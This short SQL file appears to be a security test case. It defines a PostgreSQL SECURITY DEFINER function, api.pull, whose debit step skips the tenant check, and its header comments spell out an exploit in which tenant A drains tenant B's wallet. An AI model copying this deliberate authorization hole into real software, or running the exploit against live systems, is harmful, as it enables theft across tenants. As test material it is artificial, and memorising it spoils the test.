-- Tenant A moves money out of a wallet of tenant B.
-- about: pull
-- as: ho_wallet_api
-- exploit: SET bank.tenant_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT api.pull('bbbbbbbb-0000-4000-8000-000000000001', 'aaaaaaaa-0000-4000-8000-000000000001',
-- exploit: 711);
-- exploit: SELECT balance FROM api.wallets();
-- shows: 811
CREATE FUNCTION api.pull(source_id uuid, target_id uuid, sum numeric) RETURNS void LANGUAGE sql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  UPDATE bank.wallets SET balance = balance - sum WHERE id = source_id;
  UPDATE bank.wallets SET balance = balance + sum WHERE id = target_id AND tenant_id = bank.tenant();
$$;
GRANT EXECUTE ON FUNCTION api.pull(uuid, uuid, numeric) TO ho_wallet_api;
